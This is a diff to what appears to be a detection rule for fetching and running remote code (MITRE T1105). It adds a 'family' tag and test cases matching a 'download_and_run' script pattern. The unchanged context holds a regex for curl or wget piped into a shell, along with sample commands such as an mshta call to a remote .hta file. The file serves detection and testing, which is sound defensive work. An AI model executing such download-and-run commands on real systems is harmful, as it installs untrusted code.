@@ -2,6 +2,7 @@
 -- platform:        any
 -- technique:       T1105
 -- weight:          60
+-- family:          download
 -- false positives: a cloud image's first boot, which fetches and runs its setup once
 --
 -- pattern: unix (curl|wget|fetch) [^|;]*\|[^|]*(ba|da|z|k|a|)sh($|[ "';&])
@@ -19,3 +20,10 @@
 -- fires:   {"windows": "mshta http://192.0.2.1/x.hta"}
 -- spares:  {"unix": "curl -o /srv/x http://192.0.2.1/x"}
 -- spares:  {"windows": "mshta C:\\Windows\\x.hta"}
+--
+-- shape:   unit_command
+-- fires:   {"script_patterns": "[\"download_and_run\"]"}
+-- fires:   {"script_patterns": "[\"downloads\",\"download_and_run\"]"}
+-- spares:  {"script_patterns": "[\"downloads\"]"}
+-- spares:  {"script_patterns": null}
+script_patterns LIKE '%"download_and_run"%'
